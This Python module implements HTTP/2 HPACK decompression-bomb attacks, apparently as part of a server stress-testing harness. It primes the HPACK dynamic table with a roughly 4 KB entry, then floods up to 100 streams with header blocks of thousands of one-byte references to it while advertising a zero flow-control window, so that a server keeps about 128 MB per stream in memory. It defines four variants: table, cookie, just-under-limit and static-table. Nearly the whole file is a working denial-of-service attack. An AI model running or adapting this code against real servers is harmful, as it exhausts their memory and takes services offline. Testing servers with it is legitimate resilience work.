"""HPACK bombs: a field block of 32 KB that decodes to 128 MB, held by a window of zero.

Each byte of the block refers to an entry of a table. With a window of zero nothing can be answered,
so whatever a server keeps for a stream, it keeps for as long as the stream lives.
"""

from hyperframe.frame import ContinuationFrame, HeadersFrame, SettingsFrame

from peer import Peer, integer, request

REFERENCES = 32_000
STREAMS = 100
NO_WINDOW = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}


def _attack(prime, doc):
    def attack(target, pace):
        peer = Peer(target, settings=NO_WINDOW)
        reference = prime(peer)
        block = peer.encode(request(b"/attack/bomb")) + reference * REFERENCES
        for _ in range(STREAMS):
            if not pace.goes_on(peer):
                break
            stream, peer.next_stream = peer.next_stream, peer.next_stream + 2
            first = HeadersFrame(stream, data=block[:16_000])
            first.flags.add("END_STREAM")
            last = ContinuationFrame(stream, data=block[32_000:])
            last.flags.add("END_HEADERS")
            peer.send(first, ContinuationFrame(stream, data=block[16_000:32_000]), last)
            peer.pump(0)
        # Held for as long as it is measured.
        peer.pump(pace.left(), until=lambda: peer.over)
        return peer

    attack.__doc__ = doc
    return attack


def _entry(name):
    """Puts a field of nearly 4 KB into the dynamic table, of which it is the newest entry then (index 62)."""

    def prime(peer):
        block = peer.encode(request(b"/attack/prime"))
        # A literal with incremental indexing (RFC 7541, section 6.2.1). An entry counts for 32 bytes more than it has.
        size = 4096 - 32 - len(name)
        field = b"\x40" + integer(len(name)) + name + integer(size) + b"v" * size
        peer.open(None, block=block + field)
        return b"\xbe"

    return prime


def just_under(target, pace):
    """Fourteen references to an entry of 4 KB each: a hundred heads of 57 KB, none of which is too large, and a slow origin."""
    peer = Peer(target, settings=NO_WINDOW)
    reference = _entry(b"x-bomb")(peer)
    block = peer.encode(request(b"/attack/slow")) + reference * 14
    for _ in range(STREAMS):
        peer.open(None, block=block)
    # Held for as long as it is measured.
    peer.pump(pace.left(), until=lambda: peer.over)
    return peer


ATTACKS = {
    "bomb-table": _attack(_entry(b"x-bomb"), "References to an entry of 4 KB in the dynamic table."),
    "bomb-cookie": _attack(_entry(b"cookie"), "The same as crumbs of a cookie, which are joined (RFC 9113, 8.2.3)."),
    "bomb-just-under": just_under,
    "bomb-static": _attack(lambda peer: b"\x90", "References to a small entry of the static table."),
}
